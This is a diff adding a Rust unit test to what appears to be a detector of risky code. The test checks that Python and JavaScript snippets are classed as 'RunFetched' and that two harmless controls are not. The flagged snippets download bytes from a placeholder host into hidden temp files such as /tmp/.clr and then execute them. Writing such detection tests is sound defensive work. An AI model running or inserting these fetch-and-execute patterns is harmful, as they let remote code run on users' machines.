@@ -424,3 +424,20 @@ fn powershell_recursive_delete_under_an_unset_environment_variable_is_the_drive_
         .is_empty()
     );
 }
+
+#[test]
+fn fetched_bytes_written_to_a_file_and_then_run_run_fetched_code() {
+    // The path in a variable (Python), a literal (Python), a variable (JavaScript).
+    let py = "import urllib.request,os\np='/tmp/.clr'\nopen(p,'wb').write(urllib.request.urlopen('https://cdn.example/r2').read())\nos.chmod(p,0o755)\nos.system(p+' &')\n";
+    assert_eq!(kinds_of(Language::Python, py), ["RunFetched"]);
+    let lit = "import urllib.request, subprocess\nfrom pathlib import Path\nPath('/tmp/.helper').write_bytes(urllib.request.urlopen('https://cdn.example/h').read())\nsubprocess.run(['/tmp/.helper'])\n";
+    assert_eq!(kinds_of(Language::Python, lit), ["RunFetched"]);
+    let js = "const fs = require('fs');\nconst { execSync } = require('child_process');\nfetch('https://cdn.example/b').then(r => r.text()).then(body => { fs.writeFileSync(p, body); execSync(p); });\n";
+    assert!(kinds_of(Language::JavaScript, js).contains(&"RunFetched".to_string()));
+    // A file written with local data and run, or fetched data written and only read back, is
+    // no fetched code run.
+    let local = "import os\np='/tmp/run.sh'\nopen(p,'w').write('echo hi')\nos.system('sh ' + p)\n";
+    assert!(kinds_of(Language::Python, local).is_empty());
+    let saved = "import urllib.request\np='data.json'\nopen(p,'wb').write(urllib.request.urlopen('https://api.example/d').read())\nprint(open(p).read())\n";
+    assert!(kinds_of(Language::Python, saved).is_empty());
+}
